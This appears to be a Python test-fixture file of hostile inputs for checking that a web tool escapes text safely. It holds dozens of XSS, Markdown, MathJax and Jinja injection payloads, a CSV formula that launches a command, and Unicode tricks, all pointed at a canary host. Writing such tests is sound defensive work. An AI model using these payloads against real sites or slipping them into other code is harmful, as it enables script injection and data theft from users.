"""Texts that are more than text to somebody: to a browser, to Markdown, to MathJax, to a template."""

from __future__ import annotations

import base64

from tests.hostile.drafts import INVISIBLE, OTHER_TEXT, TEXT, THIRD_TEXT, Family

JS = "document.title=window.__pwned='canary';fetch('http://canary.invalid/')"
IMG = f'<img src=x onerror="{JS}">'
SCRIPT = f"<script>{JS}</script>"
SITE = "http://canary.invalid"


def entities(text: str) -> str:
    """Return every character as a numeric entity."""
    return "".join(f"&#x{ord(one):x};" for one in text)


def data_uri(kind: str, content: str) -> str:
    """Return a data URI in which the canary's name can still be read."""
    return f"data:{kind};x=canary;base64,{base64.b64encode(content.encode()).decode()}"


SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{JS}"><script>{JS}</script></svg>'

MARKUP = {
    # HTML, after OWASP's XSS Filter Evasion Cheat Sheet
    "script": SCRIPT,
    "script-src": f'<SCRIPT/XSS SRC="{SITE}/a.js"></SCRIPT>',
    "script-without-end": f"<SCRIPT SRC={SITE}/a.js?< B >",
    "extra-angle-brackets": f"<<SCRIPT>{JS}//\\<</SCRIPT>",
    "img-onerror": IMG,
    "malformed-img": f'<IMG """>{SCRIPT}">',
    "img-in-capitals-unquoted": f"<IMG/SRC=x/ONERROR={JS}>",
    "svg-onload": f"<svg/onload={JS}>",
    "svg-animate": f'<svg><animate onbegin="{JS}" attributeName=x dur=1s /></svg>',
    "svg-script-and-use": f'<svg><script>{JS}</script><use href="{data_uri("image/svg+xml", SVG)}#a"/></svg>',
    "svg-foreign-object": f"<svg><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'>{IMG}</body></foreignObject></svg>",
    "iframe-srcdoc": f'<iframe srcdoc="{SCRIPT.replace("window", "parent")}"></iframe>',
    "iframe-javascript": f'<iframe src="javascript:parent.{JS}"></iframe>',
    "object-and-embed": f'<object data="{data_uri("text/html", SCRIPT)}"></object><embed src="{SITE}/a.swf">',
    "body-onload": f'<body onload="{JS}" background="{SITE}/a.png">',
    "details-ontoggle": f'<details open ontoggle="{JS}"><summary>x</summary></details>',
    "input-autofocus": f'<input autofocus onfocus="{JS}">',
    "video-source": f'<video poster="{SITE}/a.png"><source onerror="{JS}"></video><audio src="{SITE}/a.mp3" autoplay>',
    "marquee-and-animation": f'<marquee onstart="{JS}">x</marquee><b style="animation:x 1s" onanimationstart="{JS}">x</b>',
    "link-javascript": f'<a href="javascript:{JS}" onmouseover="{JS}">x</a>',
    "link-with-a-tab": f'<a href=" jav&#x09;ascript:{JS}">x</a>',
    "entities-in-an-attribute": f'<a href="{entities("javascript:")}{JS}">x</a>',
    "vbscript-and-expression": f'<img src=\'vbscript:msgbox("canary")\' style="width:expression({JS})">',
    "style-element": f"<style>@import url({SITE}/a.css);*{{background:url({SITE}/a.png)!important}}</style>",
    "style-attribute": f'<b style="background:url({SITE}/b.png);position:fixed;inset:0">x</b>',
    "link-stylesheet": f'<link rel=stylesheet href="{SITE}/a.css"><link rel=prefetch href="{SITE}/b">',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url={SITE}/">',
    "base-href": f'<base href="{SITE}/">',
    "form-action": f'<form action="{SITE}/"><button autofocus formaction="javascript:{JS}">Full credit</button></form>',
    "mathml": f'<math><maction actiontype="statusline#x" xlink:href="javascript:{JS}"><mtext href="javascript:{JS}">{IMG}</mtext></maction></math>',
    "mutation": f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={JS}&gt;">',
    "template-and-shadow-root": f"<template>{SCRIPT}</template><div><template shadowrootmode=open>{IMG}</template></div>",
    "comment": f"<!--><!-- -- --!>{IMG}-->",
    "cdata-and-instruction": f"<![CDATA[><?xml ?>{IMG}]]>",
    "pre-end": f"</pre>{SCRIPT}<pre>",
    "pre-end-oddly-written": f"x</PRE\t\n>{IMG}</pre/>",
    "ends-of-everything": f"'\"--></style></noscript></xmp></title></textarea></script></pre></div></body></html>{IMG}",
    "polyglot": f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={JS} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd={JS}//>",
    "attribute-breakout": f'" onmouseover="{JS}" autofocus onfocus="{JS}" x="\' onclick=\'{JS}',
    "dom-clobbering": f'<a id=base_url href="{SITE}/"></a><form id=submission_id><input name=attributes value=canary></form><img name=MathJax src={SITE}/a>',
    # Markdown
    "markdown-link": f"[read more](javascript:{JS})",
    "markdown-link-with-entities": f"[read more]({entities('java')}script:{JS})",
    "markdown-autolink": f"<javascript:{JS}> <{SITE}/> {SITE}/a",
    "markdown-reference": f"[read more][1] ![a][2]\n\n[1]: javascript:{JS}\n[2]: {SITE}/a.png",
    "markdown-image": f"![a]({SITE}/a.png)",
    "markdown-image-title": f"![a]({SITE}/a.png \"x' onerror='{JS}\")",
    "markdown-image-alt": f'![a" onerror="{JS}](x)',
    "markdown-data-uri": f"[a]({data_uri('text/html', SCRIPT)}) ![b]({data_uri('image/svg+xml', SVG)})",
    "code-fence": f"```html\n```\n{SCRIPT}\n\n~~~\n~~~~\n\n{IMG}",
    "indented-code-and-tables": f"    </code></pre>{IMG}\n\n| a |\n| - |\n| {IMG} |",
    "blank-lines": f"one\n\n\n\n{SCRIPT}\n\n\n- {IMG}\n\n> {IMG}\n\n# {IMG}",
    # Templates and widgets
    "jinja": f"{{{{ 7 * 191 }}}}{{% raw %}}{{% endraw %}}{{{{ ''.__class__.__mro__ }}}}{{% include '/etc/hostname' %}}{IMG}",
    "widget-view": '<script type="application/vnd.jupyter.widget-view+json">{"model_id": "canary"}</script>',
    "requirejs": f'<script type="text/javascript">require(["{SITE}/a.js"])</script>',
}
"""Every one is dangerous where a page takes it for HTML or Markdown; a test sees to that."""

FORMULAS = {
    "mathjax-href": rf"$\href{{javascript:{JS}}}{{canary}}$",
    "mathjax-unicode": rf"$$\unicode{{<img src=x onerror={JS}>}}canary$$",
    "mathjax-style": rf"\(\style{{background:url({SITE}/a.png)}}{{x}}\class{{canary}}{{y}}\cssId{{canary}}{{z}}\)",
    "mathjax-environment": rf"\begin{{equation}}\require{{html}}\href{{javascript:{JS}}}{{canary}}\end{{equation}}",
    "mathjax-display": rf"\[\text{{</script>{IMG}}}\]",
    "dollars-in-prose": r"It cost $5, she had $3: canary. She said \(no\) and \[never\].",
}

PLAIN = {
    "encoded-script": "&lt;script&gt;window.__pwned='canary'&lt;/script&gt; &amp;lt;img&amp;gt; &#60;b&#62;",
    "zero-width": "pass\u200bword a\u200db\u200cc\ufeff\u2060",
    "full-width-brackets": "＜script＞window.__pwned='canary'＜/script＞ ‹img› ᐸsvg onload=1ᐳ",
    "line-separators": "one\u2028two\u2029three",
    "combining-tower": "Z" + "\u0301\u0323\u0348" * 500 + "algo",
    "csv-formula": '=HYPERLINK("http://canary.invalid/";"Grades") +cmd|\' /C calc\'!A0 @SUM(1)',
    "ends-like-our-own-frame": "&lt;/pre&gt; </pre> <pre dir=\"auto\" class='dlis-reflection'>",
    "fifty-thousand-brackets": "<" * 50_000,
    "a-stub-in-an-answer": "answer = None\n*Your answer*\n### BEGIN SOLUTION\n### END SOLUTION",
}

CLEANED = {
    "null-bytes": f"<scr\0ipt>{JS}</scr\0ipt> java\0script:",
    "bidi-controls": "see \u202egnp.exe\u202c and \u2067this\u2069\u200f",
    "surrogates": "half \ud83d of a pair \udc00",
    "terminal-escapes": "\x1b[2J\x1b]0;pwned\x07 text\x9b31m",
    "non-characters": "a\ufffeb\uffffc",
}

CLEAN = {
    "null-bytes": f"<scr\ufffdipt>{JS}</scr\ufffdipt> java\ufffdscript:",
    "bidi-controls": "see gnp.exe and this",
    "surrogates": "half \ufffd of a pair \ufffd",
    "terminal-escapes": "\ufffd[2J\ufffd]0;pwned\ufffd text\ufffd31m",
    "non-characters": "a\ufffdb\ufffdc",
}

LONG = {
    "two-hundred-thousand-characters": "She came back. " * 14_000,
    "one-endless-word": "a" * 200_000 + SCRIPT,
}

PLACES = (TEXT, OTHER_TEXT, THIRD_TEXT)
TEXTS = Family()
for _texts in (MARKUP, FORMULAS, PLAIN):
    TEXTS.typed(PLACES, _texts, shows=_texts)
TEXTS.typed(PLACES, CLEANED, INVISIBLE, shows=CLEAN)
TEXTS.typed(PLACES, LONG, "is very long", shows={name: text[:10_000] for name, text in LONG.items()})
